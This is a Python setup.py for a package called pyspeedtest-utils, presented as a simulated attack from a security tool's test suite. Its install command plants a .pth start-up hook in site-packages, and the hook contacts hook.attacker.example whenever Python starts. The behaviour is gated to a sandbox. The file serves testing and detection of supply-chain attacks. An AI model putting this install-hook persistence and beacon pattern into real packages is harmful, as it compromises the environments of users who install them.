"""pyspeedtest-utils 0.3.0 setup.py (simulation from Tracehound's attack suite)."""
import os
import sysconfig

from setuptools import setup
from setuptools.command.install import install

def _in_sandbox():
    # act only inside the Tracehound sandbox, whose fake DNS answers every name with a
    # 198.18.0.0/15 address; elsewhere .example names do not resolve and nothing happens
    import socket
    try:
        return socket.gethostbyname("sandbox-check.attacker.example").startswith(("198.18.", "198.19."))
    except OSError:
        return False

HOOK = ("import os, socket; os.environ.get('PST_HOOKED') or (os.environ.__setitem__('PST_HOOKED', '1'), "
        "socket.getaddrinfo('hook.attacker.example', 80))\n")


class PostInstall(install):
    """A custom install command: plants a start-up hook in the environment being installed into."""

    def run(self):
        if _in_sandbox():
            target = os.path.join(sysconfig.get_paths()["purelib"], "pyspeedtest_init.pth")
            try:
                with open(target, "w") as fh:
                    fh.write(HOOK)
            except OSError:
                pass
        install.run(self)


setup(name="pyspeedtest-utils", version="0.3.0", py_modules=["pyspeedtest_utils"], cmdclass={"install": PostInstall})
